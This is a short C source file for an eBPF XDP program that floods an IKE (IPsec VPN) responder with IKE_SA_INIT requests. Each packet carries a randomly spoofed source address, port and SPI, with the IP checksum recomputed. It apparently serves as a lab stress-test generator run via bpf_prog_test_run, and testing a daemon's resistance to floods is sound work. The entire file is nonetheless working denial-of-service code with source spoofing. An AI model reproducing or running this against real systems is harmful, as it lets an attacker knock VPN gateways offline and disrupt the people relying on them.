// SPDX-License-Identifier: GPL-2.0
/* A flood: one IKE_SA_INIT request again and again, each time from another address and port, under another SPI.
 *
 * Run by bpf_prog_test_run with live frames, which come back changed: so the whole frame is written every time. */
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/ip.h>
#include <linux/udp.h>

#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

enum {
    FRAME_WORDS = 24,
    SOURCES = 100 << 24 | 96 << 16, /* 100.96.0.0/11 */
    SOURCES_MASK = (1 << 21) - 1,
};

char LICENSE[] SEC("license") = "GPL";

struct assault {
    __u64 frame[FRAME_WORDS];
    __u32 checksum_part;     /* what the IP header's sum is without the source */
    __u32 device;
    __u64 made;
};

struct {
    __uint(type, BPF_MAP_TYPE_ARRAY);
    __uint(map_flags, BPF_F_MMAPABLE);
    __uint(max_entries, 1);
    __type(key, __u32);
    __type(value, struct assault);
} assaults SEC(".maps");

SEC("xdp")
int flood(struct xdp_md *ctx)
{
    void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
    __u32 key = 0;
    struct assault *assault = bpf_map_lookup_elem(&assaults, &key);
    if (!assault || data + sizeof(assault->frame) > end)
        return XDP_ABORTED;
    assault->made++;
    __u64 *words = data;
#pragma unroll
    for (int i = 0; i < FRAME_WORDS; i++)
        words[i] = assault->frame[i];
    struct iphdr *ip = data + ETH_HLEN;
    struct udphdr *udp = (void *)(ip + 1);
    __u32 *spi = (void *)(udp + 1);
    ip->saddr = bpf_htonl(SOURCES | (bpf_get_prandom_u32() & SOURCES_MASK));
    __u32 sum = assault->checksum_part + (ip->saddr & 0xffff) + (ip->saddr >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    ip->check = ~((sum & 0xffff) + (sum >> 16));
    spi[0] = bpf_get_prandom_u32();
    spi[1] = bpf_get_prandom_u32();
    udp->source = bpf_htons(1024 + (spi[0] & 0x7fff));
    return bpf_redirect(assault->device, 0);
}
